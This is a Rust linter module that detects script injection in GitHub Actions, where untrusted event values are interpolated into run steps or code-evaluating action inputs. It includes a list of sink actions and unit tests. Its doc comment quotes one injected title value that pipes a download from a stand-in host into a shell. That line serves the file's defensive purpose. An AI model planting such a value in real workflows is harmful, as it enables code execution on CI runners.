//! `untrusted-input-in-run`: an untrusted value interpolated with `${{ }}` into a script: a
//! `run:` (any shell, PowerShell included), the `script:` of `actions/github-script`, or an
//! input that another action runs as code (yq and jq commands, SSH and Azure CLI scripts,
//! docker-run commands, backport templates). The value may come straight from the event
//! (`github.event.issue.title`, `github.head_ref`), or through `env:`, step and job outputs,
//! matrix values and free-text `workflow_dispatch` inputs ([`super::taint`]). The expression is pasted into the
//! script before it runs, so a title like `"; curl evil | sh #` is code. An expression that
//! can only yield `true` or `false` is harmless and not reported.

use super::taint::{Origin, Taint};
use super::{locate_at, related};
use crate::ctx::FileCtx;
use crate::formats::workflow::{Pos, Str, Workflow};
use crate::out::Hit;
use trustlint_model::Confidence;

/// Inputs that actions evaluate as code or templates: (action, inputs).
const SINKS: &[(&str, &[&str])] = &[
    ("actions/github-script", &["script"]),
    ("mikefarah/yq", &["cmd"]),
    ("sergeysova/jq-action", &["cmd"]),
    ("appleboy/ssh-action", &["script"]),
    ("azure/cli", &["inlineScript"]),
    ("azure/powershell", &["inlineScript"]),
    ("addnab/docker-run-action", &["run", "options"]),
    (
        "tibdex/backport",
        &[
            "body_template",
            "head_template",
            "labels_template",
            "title_template",
        ],
    ),
    ("cardinalby/js-eval-action", &["expression"]),
    ("Amadevus/pwsh-script", &["script"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("8398a7/action-slack", &["custom_payload"]),
    ("skitionek/notify-microsoft-teams", &["overwrite"]),
    ("gautamkrishnar/blog-post-workflow", &["item_exec"]),
];

/// An untrusted value interpolated into a script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UntrustedInput {
    pub at: Pos,
    /// What the expression reads, and where that comes from: `env.T (from github.event.issue.title)`.
    pub field: String,
    /// The whole `${{ ... }}` expression.
    pub expression: String,
    pub origin: Origin,
}

pub fn find(file: &FileCtx<'_>, wf: &Workflow) -> Vec<UntrustedInput> {
    find_in(file, wf, &Taint::new(wf))
}

/// What a composite action or reusable workflow does with untrusted values its callers
/// (in other files) hand it: only what the file alone does not show.
pub fn find_called(
    file: &FileCtx<'_>,
    wf: &Workflow,
    callers: &[CallerFlow],
) -> Vec<UntrustedInput> {
    let given = callers
        .iter()
        .map(|c| (c.input.clone(), c.origin.clone()))
        .collect();
    let alone = find(file, wf);
    find_in(file, wf, &Taint::with_callers(wf, given))
        .into_iter()
        .filter(|u| {
            !alone
                .iter()
                .any(|a| a.at == u.at && a.expression == u.expression)
        })
        .collect()
}

/// A `with:` value that hands an untrusted value to a local action or reusable workflow.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CallerFlow {
    /// Where the callee may be (`dir/action.yml`, `dir/action.yaml`, or the workflow's path).
    pub callee: Vec<String>,
    /// The input's name, in lower case.
    pub input: String,
    /// The value's origin, with the caller's file and place.
    pub origin: Origin,
}

/// The repository paths a local `uses:` may name.
fn callee_paths(local: &str) -> Vec<String> {
    let p = local.trim().trim_start_matches("./").trim_end_matches('/');
    if p.ends_with(".yml") || p.ends_with(".yaml") {
        vec![p.to_string()]
    } else if p.is_empty() {
        vec!["action.yml".into(), "action.yaml".into()]
    } else {
        vec![format!("{p}/action.yml"), format!("{p}/action.yaml")]
    }
}

/// Every untrusted value this file hands to a local action or reusable workflow.
pub fn caller_flows(path: &str, wf: &Workflow) -> Vec<CallerFlow> {
    let taint = Taint::new(wf);
    let mut out = Vec::new();
    let mut add = |uses: Option<&crate::formats::workflow::UsesAt>,
                   with: &crate::formats::workflow::Pairs,
                   j: usize,
                   step: Option<usize>| {
        let Some(crate::formats::workflow::Uses::Local(local)) = uses.map(|u| &u.uses) else {
            return;
        };
        for (k, v) in with {
            if let Some(flow) = taint.text(j, step, &v.text).into_iter().next() {
                out.push(CallerFlow {
                    callee: callee_paths(local),
                    input: k.text.to_ascii_lowercase(),
                    origin: Origin {
                        caller: Some((path.to_string(), v.at)),
                        ..flow.origin
                    },
                });
            }
        }
    };
    for (j, job) in wf.jobs.iter().enumerate() {
        add(job.uses.as_ref(), &job.with, j, None);
        for (i, step) in job.steps.iter().enumerate() {
            add(step.uses.as_ref(), &step.with, j, Some(i));
        }
    }
    out
}

fn find_in(file: &FileCtx<'_>, wf: &Workflow, taint: &Taint<'_>) -> Vec<UntrustedInput> {
    let mut out = Vec::new();
    for (j, job) in wf.jobs.iter().enumerate() {
        for (i, step) in job.steps.iter().enumerate() {
            let mut scripts: Vec<&Str> = step.run.iter().collect();
            if let Some(u) = &step.uses {
                for (action, inputs) in SINKS {
                    if u.uses.is(action) {
                        scripts.extend(inputs.iter().filter_map(|n| step.with(n)));
                    }
                }
            }
            for script in scripts {
                for flow in taint.text(j, Some(i), &script.text) {
                    out.push(UntrustedInput {
                        at: locate_at(file, script, &flow.expression, flow.offset),
                        field: flow.origin.describe(&flow.path),
                        expression: flow.expression,
                        origin: flow.origin,
                    });
                }
            }
        }
    }
    out
}

impl UntrustedInput {
    pub fn hit(&self, file: &FileCtx<'_>) -> Hit {
        let mut hit = file
            .hit(self.at.line, self.at.column)
            .arg("field", self.field.as_str());
        if let Some((path, at)) = &self.origin.caller {
            hit = hit.related(trustlint_model::Related {
                location: trustlint_model::Location {
                    path: path.clone(),
                    line: at.line,
                    column: at.column,
                    end_line: None,
                    end_column: None,
                },
                message: format!("the caller hands it `{}` here", self.origin.source),
            });
        } else if let Some((what, at)) = &self.origin.via {
            hit = hit.related(related(
                file,
                *at,
                format!("`{what}` is set from `{}` here", self.origin.source),
            ));
        }
        if self.origin.confidence == Confidence::Medium {
            hit = hit.confidence(Confidence::Medium);
        }
        hit.matched(self.expression.as_str())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_handed_to_local_actions_and_workflows_are_followed_into_them() {
        let caller = concat!(
            "on: issue_comment
jobs:
",
            "  a:
    steps:
      - uses: ./.github/actions/say
        with:
          message: ${{ github.event.comment.body }}
          count: 3
",
            "  b:
    uses: ./.github/workflows/called.yml
    with:
      title: ${{ github.event.issue.title }}
",
        );
        let flows = caller_flows(".github/workflows/ci.yml", &super::super::model(caller));
        let got: Vec<(&str, &str)> = flows
            .iter()
            .map(|f| (f.callee[0].as_str(), f.input.as_str()))
            .collect();
        assert_eq!(
            got,
            [
                (".github/actions/say/action.yml", "message"),
                (".github/workflows/called.yml", "title")
            ]
        );
        let action = "inputs:
  message: {}
  count: {}
runs:
  using: composite
  steps:
    - shell: bash
      run: echo \"${{ inputs.message }}\" ${{ inputs.count }}\n";
        let wf = crate::formats::workflow::read(".github/actions/say/action.yml", action)
            .unwrap()
            .remove(0);
        let file = FileCtx::new(".github/actions/say/action.yml", action);
        assert!(
            find(&file, &wf).is_empty(),
            "alone, an input is the caller's business"
        );
        let found = find_called(&file, &wf, &flows);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].origin.source, "github.event.comment.body");
        assert_eq!(
            found[0].origin.caller.as_ref().unwrap().0,
            ".github/workflows/ci.yml"
        );
    }

    fn found(wf: &str) -> Vec<(u32, u32, String)> {
        let file = FileCtx::new(".github/workflows/ci.yml", wf);
        let model = super::super::model(wf);
        find(&file, &model)
            .into_iter()
            .map(|u| (u.at.line, u.at.column, u.field))
            .collect()
    }

    #[test]
    fn titles_in_block_scripts_are_found_at_their_own_line_numbers_are_not() {
        let wf = "on: pull_request\njobs:\n  a:\n    steps:\n      - run: |\n          echo start\n          echo \"${{ github.event.pull_request.title }}\"\n          echo \"${{ github.event.pull_request.number }}\"\n      - uses: actions/github-script@v7\n        with:\n          script: console.log(\"${{ github.head_ref }}\")\n";
        assert_eq!(
            found(wf),
            vec![
                (7, 17, "github.event.pull_request.title".into()),
                (11, 32, "github.head_ref".into())
            ]
        );
    }

    #[test]
    fn values_through_env_and_other_sinks_are_found_booleans_and_quoted_vars_are_not() {
        let wf = concat!(
            "on: issue_comment\n",
            "jobs:\n  a:\n    env:\n      BODY: ${{ github.event.comment.body }}\n    steps:\n",
            "      - run: echo \"$BODY\"\n",
            "      - run: echo ${{ env.BODY }}\n",
            "      - if: ${{ contains(github.event.comment.body, '/go') }}\n        run: echo ${{ contains(github.event.comment.body, '/go') }}\n",
            "      - uses: mikefarah/yq@v4\n        with:\n          cmd: yq '.a = \"${{ github.event.comment.body }}\"' f.yml\n",
        );
        assert_eq!(
            found(wf),
            vec![
                (8, 19, "env.BODY (from github.event.comment.body)".into()),
                (13, 26, "github.event.comment.body".into()),
            ]
        );
    }
}
